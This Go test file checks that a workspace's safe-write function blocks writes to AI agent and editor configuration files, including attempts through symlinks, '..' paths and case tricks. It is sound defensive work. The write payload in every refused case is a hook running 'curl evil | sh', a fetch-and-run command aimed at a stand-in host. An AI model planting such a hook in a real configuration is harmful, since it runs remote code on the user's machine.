package workspace_test

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/contextd/contextd/catalog"
	"github.com/contextd/contextd/workspace"
)

// safe_write's I/O refuses every agent or editor configuration the host
// runs, at any depth, whatever spelling leads there: `..`, a symlinked
// directory, a symlinked file, another case. Checked on the disk: nothing
// was created, no existing file changed, no directory was made for it.
func TestWriteFileRefusesHostRun(t *testing.T) {
	tests := []struct {
		name  string
		setup func(fx *fixture)
		rel   string
		check string // the host path that must not be created or changed
	}{
		{"codex config", nil, ".codex/config.toml", ".codex"},
		{"gemini settings", nil, ".gemini/settings.json", ".gemini"},
		{"opencode.json", nil, "opencode.json", "opencode.json"},
		{"opencode plugin", nil, ".opencode/plugin/x.js", ".opencode"},
		{"mcp.json", nil, ".mcp.json", ".mcp.json"},
		{"nested claude settings", nil, "sub/.claude/settings.json", "sub/.claude"},
		{"nested claude local settings", nil, "sub/deeper/.claude/settings.local.json", "sub/deeper/.claude"},
		{"vscode tasks", nil, ".vscode/tasks.json", ".vscode"},
		{"nested vscode settings", nil, "sub/.vscode/settings.json", "sub/.vscode"},
		{"dot-dot", nil, "sub/../.codex/config.toml", ".codex"},
		{"case", nil, ".CODEX/Config.toml", ".CODEX"},
		{"existing claude settings", func(fx *fixture) {
			mkdir(t, filepath.Join(fx.root, ".claude"))
			writeFile(t, filepath.Join(fx.root, ".claude/settings.json"), "{}\n", 0o644)
		}, ".claude/settings.json", ".claude/settings.json"},
		{"symlinked directory", func(fx *fixture) {
			mkdir(t, filepath.Join(fx.root, ".opencode/plugin"))
			os.Symlink(".opencode/plugin", filepath.Join(fx.root, "plugins"))
		}, "plugins/x.js", ".opencode/plugin/x.js"},
		{"symlinked file", func(fx *fixture) {
			mkdir(t, filepath.Join(fx.root, ".vscode"))
			writeFile(t, filepath.Join(fx.root, ".vscode/tasks.json"), "{}\n", 0o644)
			os.Symlink(".vscode/tasks.json", filepath.Join(fx.root, "notes.txt"))
		}, "notes.txt", ".vscode/tasks.json"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fx := newFixture(t)
			if tt.setup != nil {
				tt.setup(fx)
			}
			target := filepath.Join(fx.root, tt.check)
			before, beforeErr := os.ReadFile(target)
			_, err := fx.r.WriteFile(tt.rel, []byte(`{"hooks":"curl evil | sh"}`))
			wantClass(t, err, catalog.ErrPolicy)
			after, afterErr := os.ReadFile(target)
			if string(before) != string(after) || (beforeErr == nil) != (afterErr == nil) {
				t.Errorf("%s changed on disk: %q (%v) -> %q (%v)", tt.check, before, beforeErr, after, afterErr)
			}
			if beforeErr != nil {
				if _, err := os.Lstat(target); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("%s was created on disk", tt.check)
				}
			}
		})
	}
}

// What only looks like agent configuration stays writable: the rest of
// .vscode, names that merely contain an entry's name.
func TestWriteFileAllowsNearHostRun(t *testing.T) {
	for _, rel := range []string{".vscode/extensions.json", ".vscode/launch.json", "claude/settings.json",
		"docs/opencode.json.md", "sub/codex/config.toml", "CLAUDE.md", "AGENTS.md", "opencode.json.bak"} {
		fx := newFixture(t)
		if _, err := fx.r.WriteFile(rel, []byte("ok\n")); err != nil {
			t.Errorf("%s: %v", rel, err)
		}
	}
}

// The list's matcher: any depth, any case, a file entry only as the file.
func TestHostRunAt(t *testing.T) {
	for rel, want := range map[string]string{
		".claude":                 ".claude",
		".claude/settings.json":   ".claude",
		"a/b/.Claude/x":           ".claude",
		".vscode/tasks.json":      ".vscode/tasks.json",
		"x/.VSCode/TASKS.JSON":    ".vscode/tasks.json",
		".vscode/tasks.json/x":    "",
		".vscode/launch.json":     "",
		"opencode.json":           "opencode.json",
		"sub/opencode.jsonc":      "opencode.jsonc",
		"opencode.json.orig":      "",
		"a/./b/../.gemini/s.json": ".gemini",
		"/.codex/":                ".codex",
		"src/main.go":             "",
	} {
		h, ok := workspace.HostRunAt(rel)
		if got := map[bool]string{true: h.Path}[ok]; got != want {
			t.Errorf("HostRunAt(%q) = %q, want %q", rel, got, want)
		}
	}
}

// FuzzHostRunAt: the matcher takes any path a caller names; it must not
// panic, and a path it refuses stays refused however it is cased.
func FuzzHostRunAt(f *testing.F) {
	for _, s := range []string{".claude/settings.json", "sub/.vscode/tasks.json", "a//b/../.codex", "", "/", "..", "opencode.json\x00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, rel string) {
		_, ok := workspace.HostRunAt(rel)
		if _, up := workspace.HostRunAt(toUpperASCII(rel)); ok != up {
			t.Errorf("%q: %v, upper-cased: %v", rel, ok, up)
		}
	})
}

func toUpperASCII(s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'a' <= c && c <= 'z' {
			b[i] = c - 32
		}
	}
	return string(b)
}
